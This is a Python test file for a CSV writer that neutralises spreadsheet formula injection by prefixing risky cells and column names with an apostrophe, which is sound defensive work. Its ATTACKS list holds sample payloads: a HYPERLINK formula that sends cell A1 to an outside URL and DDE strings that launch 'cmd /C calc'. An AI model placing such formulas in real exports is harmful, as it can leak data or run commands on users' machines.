"""CSV for spreadsheets: read back by another reader, and never run by a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.tabular import guarded, write_csv

#: https://owasp.org/www-community/attacks/CSV_Injection and the guide's own examples.
ATTACKS = [
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "=",
    "-",
]


def written(*cells: object) -> list[str]:
    stream = io.StringIO()
    write_csv(["a"] * len(cells), [cells], stream)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))[1]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    assert written(text) == [f"'{text}".replace("\r", "\n")]


@given(st.lists(st.text(), min_size=1))
def test_no_text_can_begin_a_row_of_its_own(cells: list[str]) -> None:
    stream = io.StringIO()
    write_csv(["a"] * len(cells), [cells], stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert [len(row) for row in rows] == [len(cells)] * 2
    assert not any(cell.lstrip(" ").startswith(("=", "@", "\t", "\r", "\n")) for cell in rows[1])


def test_a_list_is_one_text_and_is_guarded_as_one() -> None:
    assert written(["quiet", "held"], ["=1+1"], []) == ["quiet, held", "'=1+1", ""]


def test_numbers_dates_and_plain_texts_stay_as_they_are() -> None:
    cells = (-1.5, 0.1 + 0.2, 7, None, True, date(2026, 1, 2), "2-5 y", "a=b", "-1.5", "+2e-3")
    assert written(*cells) == [
        *("-1.5", "0.30000000000000004", "7", "", "True", "2026-01-02", "2-5 y", "a=b"),
        *("-1.5", "+2e-3"),
    ]


def test_the_name_of_a_column_is_guarded_too() -> None:
    stream = io.StringIO()
    write_csv(["=cmd", "n_units"], [], stream)
    assert stream.getvalue() == "'=cmd,n_units\n"


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_is_read_back_as_itself(number: float) -> None:
    assert type(number)(written(number)[0]) == number


@given(st.text())
def test_guarding_only_ever_adds_an_apostrophe(text: str) -> None:
    shown = text.replace("\r\n", "\n").replace("\r", "\n")
    assert guarded(text) in (shown, f"'{shown}")
